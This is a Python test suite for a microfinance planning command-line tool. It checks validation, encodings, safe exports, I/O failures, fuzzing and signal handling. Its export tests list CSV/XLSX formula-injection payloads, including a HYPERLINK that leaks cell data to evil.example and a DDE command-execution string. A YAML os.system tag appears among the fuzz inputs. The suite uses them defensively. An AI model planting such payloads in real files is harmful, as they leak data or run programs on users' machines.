    assert len(CASES) >= 60


def test_one_pass_reports_field_and_cross_field_problems_together(cli, tmp_path: Path) -> None:
    """outlets −1 (field), loan band upside down and plan year outside the cycle (cross-field), a typo."""
    result = cli("validate", write_yaml(tmp_path, one_pass()))
    text = result.err
    assert result.code == 2
    for fragment in ("branches.0.outlets: Input should be greater than or equal to 0",
                     "branches.1.loan_size_min: loan_size_min must be ≤ loan_size_max (got 90 > 30)",
                     "plan_year: plan_year must lie inside the cycle 2014–2018 (got 2030)",
                     "plan_yaer: unknown key"):
        assert fragment in text, text


def test_minus_zero_is_read_as_zero(tmp_path: Path) -> None:
    """-0.0 passes ge=0 and then flips signs in numpy: it is stored as +0.0."""
    from scenarios import load_scenario

    data = with_changes(branches__0__loan_size_min=-0.0, branches__0__npl_ratio=-0.0)
    loaded = load_scenario(write_yaml(tmp_path, data))
    assert math.copysign(1.0, loaded.branches[0].loan_size_min) == 1.0
    assert math.copysign(1.0, loaded.branches[0].npl_ratio) == 1.0


def test_blank_xlsx_rows_are_skipped(tmp_path: Path) -> None:
    """Blank rows between and after the branches, and a forged <dimension> of a whole sheet, read as nothing."""
    from scenarios import load_scenario

    rows = header_and_rows(table_rows(2))
    rows = [rows[0], rows[1], [None], [" "], rows[2], [None], [None]]
    (tmp_path / "b.xlsx").write_bytes(xlsx_bytes(rows, dimension="A1:XFD1048576"))
    loaded = load_scenario(table_scenario(tmp_path, "b.xlsx"))
    assert [b.id for b in loaded.branches] == ["B1", "B2"]


@pytest.mark.parametrize("encoding", ["gbk", "utf-16"])
def test_encodings_read_the_same_text(tmp_path: Path, encoding: str) -> None:
    """A name saved in GBK or UTF-16 loads as the same Chinese text as from UTF-8."""
    from scenarios import load_scenario

    data = named("城东支行·小微")
    text = yaml.safe_dump(data, allow_unicode=True)
    (tmp_path / "s.yaml").write_bytes(text.encode(encoding))
    assert load_scenario(tmp_path / "s.yaml").branches[0].name == "城东支行·小微"


# ---------------------------------------------------------------- exports: no live formula, no link, nothing partial

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',   # a link that leaks the neighbouring cell
    "+cmd|' /C calc'!A0",                              # DDE: runs a program
    "@SUM(1+1)",                                       # @ starts a formula in Excel
    "-2+3+cmd|' /C calc'!A0",                          # minus starts a formula too
    "=1+1",                                            # the plainest formula
    "http://evil.example/login",                       # xlsxwriter's write() turns URLs into links
    "＝1+1",                                           # full-width equals sign
    "  =1+1",                                          # leading blanks before the formula
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_exports_carry_no_live_formula_or_link(cli, tmp_path: Path, payload: str) -> None:
    data = valid_raw()
    data["name"] = payload
    data["branches"][0]["id"] = payload
    data["branches"][1]["name"] = payload
    path = write_yaml(tmp_path, data)
    xlsx, csv_path = tmp_path / "plan.xlsx", tmp_path / "plan.csv"
    assert cli("plan", path, "--out", xlsx).code in (0, 1)
    assert cli("plan", path, "--format", "csv", "--out", csv_path).code in (0, 1)
    book = openpyxl.load_workbook(xlsx)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # only the totals row's SUM of its own column, never input text
                    assert re.fullmatch(r"=SUM\(([A-Z]+)2:\1\d+\)", cell.value), (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(payload in t for t in texts)  # the text is there, as text
    with csv_path.open(encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    for cell in cells:
        plain_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)  # e.g. a negative ratchet coefficient: data, not a formula
        if cell.lstrip(" ")[:1] in (*FORMULA_START, "＝", "＋", "－", "＠") and not plain_number:
            raise AssertionError(f"live CSV cell {cell!r}")
    assert "'" + payload in cells or payload in cells and not payload.lstrip(" ")[:1] in "=+-@＝"


def test_xlsx_export_needs_no_temporary_folder(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full or missing temporary folder broke the XLSX export: the workbook is assembled in memory."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no-such-folder"))
    out = tmp_path / "plan.xlsx"
    result = cli("plan", write_yaml(tmp_path, valid_raw()), "--format", "xlsx", "--out", out)
    assert result.code in (0, 1), result.err
    assert openpyxl.load_workbook(out).sheetnames[0] == "分行目标"


def test_markup_in_names_is_printed_as_text(cli, tmp_path: Path) -> None:
    """`[/]` crashed the table (MarkupError); `[bold]` would have vanished into formatting."""
    data = named("[/]支行[bold]", "branch")
    data["name"] = "[red]bank[/red] [/]"
    result = cli("plan", write_yaml(tmp_path, data))
    assert result.code in (0, 1), result.err
    assert "[/]支行[bold]" in result.out and "[red]bank[/red] [/]" in result.out


def test_plan_json_refuses_non_finite_numbers() -> None:
    """JSON has no NaN or Infinity: a non-finite number in a plan is named, never emitted."""
    from api.cli import plan_json_text

    with pytest.raises(ValueError, match=r"non-finite number at branches\.1\.pace"):
        plan_json_text({"branches": [{"pace": 1.0}, {"pace": float("nan")}]})
    assert "Infinity" not in plan_json_text({"x": 1.5})


def test_full_disk_on_stdout_is_one_line_exit_4(tmp_path: Path) -> None:
    """stdout redirected to a full disk: one line, exit 4."""
    with open("/dev/full", "w") as full:
        outcome = run_bounded(["scenarios", "show", "city-2014"], tmp_path, stdout=full)
    assert outcome.code == 4 and "No space left on device" in outcome.err
    assert len(outcome.err.strip().splitlines()) == 1 and "Traceback" not in outcome.err


def test_closed_stdout_is_one_line_exit_4(tmp_path: Path) -> None:
    """The reader of the pipe has gone (`| head -1` after its line): one line, exit 4, no
    'Exception ignored' noise at exit. The read end is closed before the command writes."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    with os.fdopen(write_end, "wb") as closed_pipe:
        outcome = run_bounded(["scenarios", "show", "city-2014"], tmp_path, stdout=closed_pipe)
    assert outcome.code == 4, outcome.err
    assert outcome.err.strip().splitlines() == ["microplan: stdout was closed before the output was complete (broken pipe)"]


def test_file_size_limit_leaves_no_partial_file(tmp_path: Path) -> None:
    """A file-size limit (ulimit -f) hit mid-write: exit 4, one line, and neither the file nor a temporary."""
    out = tmp_path / "bank.yaml"
    outcome = run_bounded(["scenarios", "generate", "--branches", "200", "--out", out], tmp_path, fsize=20_000)
    assert outcome.code == 4, outcome.err
    assert "File too large" in outcome.err and len(outcome.err.strip().splitlines()) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_failed_write_keeps_the_previous_file(tmp_path: Path) -> None:
    """Writing over an existing export fails midway: the old file is untouched."""
    out = tmp_path / "bank.yaml"
    out.write_text("previous\n")
    outcome = run_bounded(["scenarios", "generate", "--branches", "200", "--out", out], tmp_path, fsize=20_000)
    assert outcome.code == 4
    assert out.read_text() == "previous\n" and sorted(p.name for p in tmp_path.iterdir()) == ["bank.yaml"]


def test_a_silent_server_times_out_with_a_clear_message() -> None:
    """Something accepts the connection and says nothing (a web server waiting for a request)."""
    from simulate.runner import probe_dask_scheduler

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    try:
        with pytest.raises(ConnectionError, match=r"no Dask scheduler answered at tcp://127\.0\.0\.1:\d+ within 0\.3 s"):
            probe_dask_scheduler(f"tcp://127.0.0.1:{server.getsockname()[1]}", timeout=0.3)
    finally:
        server.close()


def test_not_a_dask_scheduler_is_refused(cli, tmp_path: Path) -> None:
    """A web server answering on the port: its reply would be read as a frame length of exabytes."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]

    def answer() -> None:
        conn, _ = server.accept()
        conn.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
        conn.close()

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    try:
        result = cli(*simulate_args("--dask", f"tcp://127.0.0.1:{port}")(tmp_path))
    finally:
        server.close()
    assert result.code == 2, result.err
    assert "is not a Dask scheduler" in result.err and len(result.err.strip().splitlines()) == 1


# ---------------------------------------------------------------- every numeric field × extreme values


def numeric_paths(model: type, prefix: str = "") -> list[str]:
    """Dotted paths of every numeric field of the scenario (branch fields on row 0)."""
    from scenarios.base import _kinds, model_in

    paths = []
    for name, field in model.model_fields.items():
        inner = model_in(field.annotation)
        if name == "branches":
            paths += numeric_paths(inner, "branches.0.")
        elif inner is not None and name != "variants":
            paths += numeric_paths(inner, f"{prefix}{name}.")
        elif _kinds(field.annotation) & {"int", "float"}:
            paths.append(f"{prefix}{name}")
    return paths


#: Values that broke lenient parsing: NaN, ±inf, overflow, a boolean, beyond int64, -0.0, subnormal, junk text.
EXTREMES = [float("nan"), float("inf"), float("-inf"), 1e308, -1e308, True, 2**70, -0.0, 5e-324, "12abc"]


def with_value(path: str, value: object) -> dict:
    data = valid_raw()
    node = data
    parts = path.split(".")
    for part in parts[:-1]:
        node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
    node[parts[-1]] = value
    return data


def test_every_numeric_field_takes_every_extreme_value() -> None:
    """Each numeric field × 10 extreme values: a ScenarioError naming a field, or a scenario that loads
    with finite numbers and no negative zero — never another exception."""
    accepted_extremes()


def accepted_extremes() -> list[tuple[str, object]]:
    """(path, value) of the extremes the schema accepts, after checking every field × value (see above)."""
    from scenarios import ScenarioError, scenario_from_dict
    from scenarios.schema import Scenario

    paths = numeric_paths(Scenario)
    assert len(paths) > 60  # plan and simulation fields alike
    accepted = []
    for path in paths:
        for value in EXTREMES:
            try:
                loaded = scenario_from_dict(with_value(path, value))
            except ScenarioError as exc:
                assert exc.problems and all(p.path for p in exc.problems), (path, value)
                continue
            number = _value_at(loaded, path)
            assert isinstance(number, (int, float)) and math.isfinite(number), (path, value, number)
            assert math.copysign(1.0, number) == 1.0 or number < 0, (path, value, number)
            accepted.append((path, value))
    assert 0 < len(accepted) < len(paths) * len(EXTREMES) / 2  # most extremes are refused, some are fine
    return accepted


def _value_at(model: object, path: str) -> object:
    for part in path.split("."):
        model = model[int(part)] if part.isdigit() else getattr(model, part)
    return model


@pytest.mark.slow
def test_accepted_extremes_plan_without_error() -> None:
    """Every extreme value the schema accepts (−0.0, a subnormal …) plans without an exception or a NaN in JSON."""
    from api.cli import plan_json_text
    from optimize.plan import make_plan
    from scenarios import scenario_from_dict

    for path, value in accepted_extremes():
        if not path.startswith("simulation."):
            plan_json_text(make_plan(scenario_from_dict(with_value(path, value))).to_json())


# ---------------------------------------------------------------- fuzzing


def mutate(data: bytes, edits: list[tuple[int, int, bytes]]) -> bytes:
    """Apply (position, delete count, insert bytes) edits to `data`, positions taken modulo its length."""
    out = bytearray(data)
    for position, delete, insert in edits:
        at = position % (len(out) + 1)
        out[at:at + delete] = insert
    return bytes(out)


EDITS = st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 8), st.binary(max_size=8)), min_size=1, max_size=6)
INTERESTING_TEXT = st.sampled_from([b": ", b"\n", b"- ", b"&a ", b"*a", b"[", b"{", b"!!python/object:os.system", b"\x1b",
                                    b"NaN", b"1e999", b"true", b"=1+1", b"\xef\xbb\xbf", b"\xff\xfe", b"\t", b'"', b"'"])


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=EDITS, extra=st.lists(st.tuples(st.integers(0, 10**6), st.just(0), INTERESTING_TEXT), max_size=3))
def test_fuzzed_scenario_text_never_crashes(cli, tmp_path: Path, edits, extra) -> None:
    """Random byte edits of a valid scenario: exit 0 or 2, never a traceback or an internal error."""
    path = tmp_path / "fuzz.yaml"
    path.write_bytes(mutate(valid_yaml().encode(), edits + extra))
    result = cli("validate", path)
    event(f"exit {result.code}")
    target(float(len(result.err.splitlines())), label="problems reported")
    assert result.code in (0, 2), result.err
    assert "Traceback" not in result.err and "internal error" not in result.err
    if result.code == 2:
        assert result.err.strip()


TABLE_KINDS = {
    "csv": lambda: csv_bytes(table_rows(3)),
    "csv-gbk": lambda: csv_bytes([{**r, "name": "城东支行"} for r in table_rows(3)], "gbk"),
    "xlsx": lambda: xlsx_bytes(header_and_rows(table_rows(3))),
}


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kind=st.sampled_from(sorted(TABLE_KINDS)), edits=EDITS)
def test_fuzzed_branch_table_bytes_never_crash(cli, tmp_path: Path, kind: str, edits) -> None:
    """Random byte edits of a CSV / XLSX branch table: exit 0 or 2, one line per problem, no traceback."""
    name = "b.xlsx" if kind == "xlsx" else "b.csv"
    (tmp_path / name).write_bytes(mutate(TABLE_KINDS[kind](), edits))
    result = cli("validate", table_scenario(tmp_path, name))
    event(f"{kind}: exit {result.code}")
    assert result.code in (0, 2), result.err
    assert "Traceback" not in result.err and "internal error" not in result.err


# ---------------------------------------------------------------- signals


def descendants(pid: int) -> list:
    import psutil

    try:
        return psutil.Process(pid).children(recursive=True)
    except psutil.NoSuchProcess:
        return []


@pytest.mark.parametrize(("signum", "code", "name"), [
    (signal.SIGINT, 130, "SIGINT"),    # Ctrl-C: the run hung past 60 s with its workers alive
    (signal.SIGTERM, 143, "SIGTERM"),  # a service manager stopping it: workers were orphaned
    pytest.param(signal.SIGHUP, 129, "SIGHUP", marks=pytest.mark.slow),  # the terminal closed (same path: slow tier)
])
def test_signal_stops_a_two_worker_simulation(tmp_path: Path, signum: int, code: int, name: str) -> None:
    """`simulate city-2014 --workers 2 --replications 400`, signalled once its workers run: the run
    ends with 128 + n and one line, every worker process is gone, no output and no temporary left."""
    out = tmp_path / "sim.json"
    temp = Path(tempfile.mkdtemp(prefix="mp-", dir="/tmp"))  # short: the fork server's socket lives here
    try:
        _signal_run(tmp_path, out, temp, signum, code, name)
    finally:
        shutil.rmtree(temp, ignore_errors=True)


def _signal_run(tmp_path: Path, out: Path, temp: Path, signum: int, code: int, name: str) -> None:
    import psutil

    env = {**os.environ, "TMPDIR": str(temp), "OPENBLAS_NUM_THREADS": "1"}
    proc = subprocess.Popen([sys.executable, "-c", "from api.cli import main; main()", "simulate", "city-2014",
                             "--workers", "2", "--replications", "400", "--format", "json", "--out", str(out)],
                            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    workers: list = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        workers = [p for p in descendants(proc.pid) if p.ppid() != proc.pid]  # forked by the fork server
        if len(workers) >= 2:
            break
        time.sleep(0.1)
    if len(workers) < 2:
        proc.kill()
        raise AssertionError(f"the workers never started (exit {proc.wait()}): {proc.stderr.read().decode()[-2000:]}")
    every = descendants(proc.pid)
    time.sleep(0.5)  # let the workers take their first chunks
    proc.send_signal(signum)
    try:
        returncode = proc.wait(timeout=15)
    except subprocess.TimeoutExpired:
        proc.kill()
        raise AssertionError(f"{name} did not stop the run")
    err = proc.stderr.read().decode()
    assert returncode == code, err
    assert err.strip().splitlines() == [f"microplan: stopped by {name}; nothing half-written is left"]
    gone, alive = psutil.wait_procs(every, timeout=5)
    assert not alive, f"processes left behind: {alive}"
    assert not out.exists() and not list(tmp_path.glob("*.part"))
    assert not list(temp.iterdir()), f"temporary files left: {list(temp.iterdir())}"
